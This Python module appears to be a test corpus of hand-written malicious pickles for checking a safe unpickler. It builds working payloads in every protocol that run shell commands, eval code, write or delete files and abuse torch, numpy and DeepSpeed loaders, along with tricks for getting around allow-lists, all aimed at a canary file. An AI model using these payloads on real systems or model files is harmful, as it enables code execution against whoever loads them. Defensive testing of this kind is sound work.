"""Pickles that do harm to whoever unpickles them, in every protocol. Written by hand: nothing here imports what it names.

Each does something to the file `canary`, or would if the module it names were there; `BITES` are those that do it with
nothing but Python, which a control test has Python's own unpickler show.
"""

from __future__ import annotations

import marshal
import pickle
import struct
from dataclasses import dataclass
from typing import Any

PROTOCOLS = range(6)


@dataclass(frozen=True)
class Name:
    """A global."""

    module: str
    name: str


@dataclass(frozen=True)
class Do:
    """A call, by REDUCE unless `by` says NEWOBJ, NEWOBJ_EX, OBJ or INST; `state` is given to BUILD."""

    target: Any
    args: Any = ()
    by: str = "REDUCE"
    state: Any = None


@dataclass(frozen=True)
class Code:
    """Opcodes as they are."""

    raw: bytes


def do(path: str, *args: Any, **more: Any) -> Do:
    """A call of `module.name`, the module being all but the last word."""
    module, _, name = path.rpartition(".")
    return Do(Name(module, name), args, **more)


def encoded(value: Any, protocol: int) -> bytes:
    """A pickle of `value` in the opcodes of that protocol."""
    body = _encode(value, protocol) + b"."
    if protocol >= 4:
        body = b"\x95" + struct.pack("<Q", len(body)) + body
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body


def _encode(value: Any, protocol: int) -> bytes:
    if isinstance(value, Code):
        return value.raw
    if isinstance(value, Name):
        if protocol >= 4:
            return _encode(value.module, protocol) + _encode(value.name, protocol) + b"\x93"
        return b"c" + value.module.encode() + b"\n" + value.name.encode() + b"\n"
    if isinstance(value, Do):
        return _call(value, protocol)
    if isinstance(value, (tuple, list)):
        items = b"".join(_encode(item, protocol) for item in value)
        return b"(" + items + (b"t" if isinstance(value, tuple) else b"l")
    if isinstance(value, dict):
        return b"(" + b"".join(_encode(item, protocol) for pair in value.items() for item in pair) + b"d"
    if isinstance(value, str) and protocol == 0:
        return b"V" + value.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"
    if isinstance(value, bytes) and protocol < 3:
        return _encode(do("_codecs.encode", value.decode("latin-1"), "latin1"), protocol)
    return pickle.dumps(value, min(protocol, 3)).removeprefix(b"\x80" + bytes([min(protocol, 3)])).rstrip(b".")


def _call(call: Do, protocol: int) -> bytes:
    target, args = _encode(call.target, protocol), _encode(call.args, protocol)
    if call.by == "INST":
        code = b"(" + b"".join(_encode(arg, protocol) for arg in call.args)
        code += b"i" + call.target.module.encode() + b"\n" + call.target.name.encode() + b"\n"
    elif call.by == "OBJ":
        code = b"(" + target + b"".join(_encode(arg, protocol) for arg in call.args) + b"o"
    elif call.by == "NEWOBJ_EX":
        code = target + args + _encode(call.state or {}, protocol) + b"\x92"
    else:
        code = target + args + {"REDUCE": b"R", "NEWOBJ": b"\x81"}[call.by]
    if call.state is not None and call.by != "NEWOBJ_EX":
        code += _encode(call.state, protocol) + b"b"
    return code


def attribute(value: Any, *names: str) -> Do:
    """`value.a.b.c` by a chain of getattr."""
    for name in names:
        value = do("builtins.getattr", value, name)
    return value


def hostile(canary: str) -> dict[str, Any]:
    """The corpus by name; every one is to be pickled in every protocol."""
    touch, shell = f"open({canary!r}, 'a').write('x')", f"echo x >> {canary}"
    argv = ["/bin/sh", "-c", shell]
    module = do("importlib.import_module", "os")
    inner = pickle.dumps({"harmless": 1}, 2)[:-1] + b"0" + encoded(do("os.system", shell), 2)[2:]
    code = marshal.dumps(compile(touch, "x", "exec"))
    storage = Name("torch", "FloatStorage")
    return {
        # Shells and processes.
        "os.system": do("os.system", shell),
        "posix.system": do("posix.system", shell),
        "nt.system": do("nt.system", shell),
        "os.popen": attribute(do("os.popen", shell), "read"),
        "os.execv": do("os.execv", "/bin/sh", argv),
        "os.posix_spawn": do("os.posix_spawn", "/bin/sh", argv, {}),
        "os.spawnlp": do("os.spawnlp", 0, "/bin/sh", *argv),
        "subprocess.Popen": do("subprocess.Popen", argv),
        "subprocess.check_output": do("subprocess.check_output", argv),
        "subprocess.getoutput": do("subprocess.getoutput", shell),
        "subprocess.Popen by keyword": do("subprocess.Popen", shell, by="NEWOBJ_EX", state={"shell": True}),
        "_posixsubprocess": do("_posixsubprocess.fork_exec", argv, [b"/bin/sh"]),
        "pty.spawn": do("pty.spawn", argv),
        "commands of Python 2": do("commands.getoutput", shell),
        "popen2 of Python 2": do("popen2.popen2", shell),
        "uuid._get_command_stdout": do("uuid._get_command_stdout", "sh", "-c", shell),
        "distutils": do("distutils.spawn.spawn", argv),
        "multiprocessing": do("multiprocessing.context.Process", None, Name("os", "system"), None, (shell,)),
        "webbrowser": do("webbrowser.GenericBrowser", "/bin/sh"),
        # Code in text or bytes.
        "eval": do("builtins.eval", touch),
        "exec": do("builtins.exec", touch),
        "eval of Python 2": do("__builtin__.eval", touch),
        "compile and exec": do("builtins.exec", do("builtins.compile", touch, "x", "exec")),
        "marshal": do("builtins.exec", do("marshal.loads", code)),
        "function out of code": Do(do("types.FunctionType", do("marshal.loads", code), {}), ()),
        "runpy": do("runpy._run_code", touch, {}),
        "runpy.run_path": do("runpy.run_path", canary),
        "timeit": do("timeit.timeit", touch, "pass"),
        "cProfile": do("cProfile.run", touch, None),
        "profile": do("profile.run", touch, None),
        "trace": attribute(do("trace.Trace"), "run"),
        "pdb": do("pdb.run", touch),
        "code": do("code.interact", touch),
        "doctest": do("doctest.script_from_examples", touch),
        "breakpoint": do("builtins.breakpoint"),
        # Ways round to a name.
        "getattr": Do(attribute(do("builtins.__import__", "os"), "system"), (shell,)),
        "getattr of a class": Do(attribute("", "__class__", "__base__", "__subclasses__"), ()),
        "importlib": Do(attribute(module, "system"), (shell,)),
        "import of canary's directory": do("builtins.__import__", canary.replace("/", ".")),
        "attrgetter": Do(Do(do("operator.attrgetter", "system"), (module,)), (shell,)),
        "methodcaller": Do(do("operator.methodcaller", "system", shell), (module,)),
        "partial": Do(do("functools.partial", Name("os", "system"), shell), ()),
        "partial by state": Do(
            do("functools.partial", Name("builtins", "print"), state=(Name("os", "system"), (shell,), {}, None)), ()
        ),
        "map": do("builtins.list", do("builtins.map", Name("os", "system"), [shell])),
        "reduce": do("functools.reduce", Name("builtins", "getattr"), [module, "system"]),
        "sorted by key": do("builtins.sorted", [shell], by="NEWOBJ_EX", state={"key": Name("os", "system")}),
        "defaultdict": Do(attribute(do("collections.defaultdict", Name("os", "system")), "__missing__"), (shell,)),
        "computed names": Code(
            _encode(do("operator.add", "o", "s"), 2)
            + _encode(do("operator.add", "sys", "tem"), 2) + b"\x93" + _encode((shell,), 2) + b"R"
        ),
        "dotted name": Do(Name("os", "path.os.system"), (shell,)),
        "dotted name by opcode": Code(_encode("os", 4) + _encode("path.os.system", 4) + b"\x93" + _encode((shell,), 2) + b"R"),
        # Other opcodes that call, and hooks that are called.
        "INST": do("os.system", shell, by="INST"),
        "OBJ": do("os.system", shell, by="OBJ"),
        "NEWOBJ": do("os.system", shell, by="NEWOBJ"),
        "NEWOBJ_EX": do("subprocess.Popen", argv, by="NEWOBJ_EX"),
        "extension codes": Code(b"\x82\x07)R0\x83\x07\x01)R0\x84\x07\0\0\1)R0" + _encode(do("os.system", shell), 2)),
        "extension registered first": [
            do("copyreg.add_extension", "os", "system", 7), Code(b"\x82\x07" + _encode((shell,), 2) + b"R"),
        ],
        "copyreg._reconstructor": do("copyreg._reconstructor", Name("subprocess", "Popen"), Name("builtins", "object"), None),
        "copyreg.__newobj__": do("copyreg.__newobj__", Name("subprocess", "Popen"), argv),
        "copyreg.__newobj_ex__": do("copyreg.__newobj_ex__", Name("subprocess", "Popen"), (argv,), {}),
        "__setstate__": Do(Name("types", "SimpleNamespace"), (), state={"__setstate__": Name("os", "system")}),
        "state of a module": Code(_encode(module, 2) + _encode({"system": Name("builtins", "exec")}, 2) + b"b"),
        "__reduce_ex__": Do(attribute(do("subprocess.Popen.__new__", Name("subprocess", "Popen")), "__reduce_ex__"), (2,)),
        "persistent id": Code(_encode(("storage", do("os.system", shell), "0", "cpu", 1), 2) + b"Q"),
        "persistent id of a class": Code(_encode(("storage", Name("os", "system"), "0", "cpu", 1), 2) + b"Q"),
        "persistent id as text": Code(b"P" + shell.encode() + b"\n"),
        "persistent module of old torch": Code(_encode(("module", Name("os", "system"), canary, touch), 2) + b"Q"),
        "key with a hash of its own": {do("os.system", shell): 1},
        "set element": Code(b"\x8f(" + _encode(do("os.system", shell), 2) + b"\x90"),
        # Files and the network.
        "open": Do(attribute(do("builtins.open", canary, "a"), "write"), ("x",)),
        "io.open": Do(attribute(do("io.open", canary, "a"), "write"), ("x",)),
        "FileIO": Do(attribute(do("_io.FileIO", canary, "a"), "write"), (b"x",)),
        "pathlib": Do(attribute(do("pathlib.Path", canary), "write_text"), ("x",)),
        "os.remove": do("os.remove", canary),
        "shutil.rmtree": do("shutil.rmtree", canary),
        "shutil.copy": do("shutil.copyfile", "/etc/hostname", canary),
        "logging": do("logging.FileHandler", canary),
        "logging.config": do("logging.config.fileConfig", canary),
        "socket": do("socket.create_connection", ("127.0.0.1", 9)),
        "urllib": do("urllib.request.urlretrieve", "file:///etc/hostname", canary),
        "ctypes": Do(attribute(do("ctypes.CDLL", None), "system"), (shell.encode(),)),
        "ctypes.pythonapi": Do(attribute(Name("ctypes", "pythonapi"), "PyRun_SimpleString"), (touch.encode(),)),
        "exit": do("os._exit", 3),
        "kill": do("os.kill", do("os.getpid"), 9),
        "recursion limit": do("sys.setrecursionlimit", 1 << 30),
        # Pickles inside, and decompression.
        "pickle.loads": do("pickle.loads", inner),
        "_pickle.loads": do("_pickle.loads", inner),
        "joblib": do("joblib.load", canary),
        "pandas": do("pandas.read_pickle", canary),
        "cloudpickle": do("cloudpickle.loads", inner),
        "shelve": do("shelve.open", canary),
        "zlib": do("zlib.decompress", b"x\x9c"),
        "codecs.open": do("codecs.open", canary, "w"),
        # numpy and torch.
        "numpy.load": do("numpy.load", canary, None, True),
        "numpy.fromfile": do("numpy.fromfile", canary),
        "numpy.memmap": do("numpy.memmap", canary, "uint8", "w+", 0, (4,)),
        "numpy.savetxt": do("numpy.savetxt", canary, [1]),
        "numpy.f2py": do("numpy.f2py.crackfortran.myeval", touch),
        "numpy.testing": do("numpy.testing._private.utils.runstring", touch, {}),
        "numpy dtype and array state": do(
            "numpy.core.multiarray._reconstruct", Name("numpy", "ndarray"), (1 << 40,), b"b",
            state=(1, (1 << 40,), do("numpy.dtype", "O8", False, True), False, [1]),
        ),
        "torch.load": do("torch.load", canary),
        "torch.serialization.load": do("torch.serialization.load", canary),
        "torch.storage._load_from_bytes": do("torch.storage._load_from_bytes", inner),
        "torch.jit.load": do("torch.jit.load", canary),
        "torch.hub": do("torch.hub.load", canary, "model"),
        "torch.cpp_extension": do("torch.utils.cpp_extension.load_inline", "x", touch),
        "torch.collect_env": do("torch.utils.collect_env.run", shell),
        "torch.from_file": do("torch.from_file", canary, True, 10),
        "torch.UntypedStorage.from_file": do("torch.UntypedStorage.from_file", canary, True, 10),
        "torch.ops.load_library": Do(attribute(Name("torch", "ops"), "load_library"), (canary,)),
        "torch._tensor": do("torch._tensor._rebuild_from_type_v2", Name("os", "system"), storage, (shell,), {}),
        "torch._tensor of a builder": do(
            "torch._tensor._rebuild_from_type_v2", Name("torch._utils", "_rebuild_parameter"), storage,
            (do("os.system", shell), False, None), {},
        ),
        "torch parameter with state": do(
            "torch._utils._rebuild_parameter_with_state", do("os.system", shell), False, None, {"__class__": 1}
        ),
        "torch.nn.Module": Do(Name("torch.nn.modules.module", "Module"), (), state={"forward": Name("os", "system")}),
        "torch tensor with hooks": do(
            "torch._utils._rebuild_tensor_v2", do("os.system", shell), 0, (1,), (1,), False,
            do("collections.OrderedDict", [("hook", do("os.system", shell))]),
        ),
        # DeepSpeed's own names.
        "DeepSpeed enumeration": do("deepspeed.runtime.zero.config.ZeroStageEnum", do("os.system", shell)),
        "DeepSpeed loss scaler": do(
            "deepspeed.runtime.fp16.loss_scaler.LossScaler", state={"cur_scale": do("os.system", shell)}
        ),
        "user class with __setstate__": Do(Name("__main__", "Trainer"), (), state=do("os.system", shell)),
    }  # fmt: skip


# Those that touch the canary on any Python with nothing installed, in the protocols in which they can be written.
BITES = (
    "os.system", "posix.system", "subprocess.check_output", "subprocess.getoutput", "uuid._get_command_stdout",
    "eval", "exec", "compile and exec", "marshal", "function out of code", "runpy", "cProfile", "getattr", "importlib",
    "attrgetter", "methodcaller", "partial", "partial by state", "map", "computed names", "dotted name by opcode",
    "INST", "OBJ", "extension registered first", "open", "io.open", "FileIO", "pathlib", "os.remove", "shutil.copy",
    "urllib", "ctypes", "pickle.loads", "_pickle.loads", "set element",
)  # fmt: skip
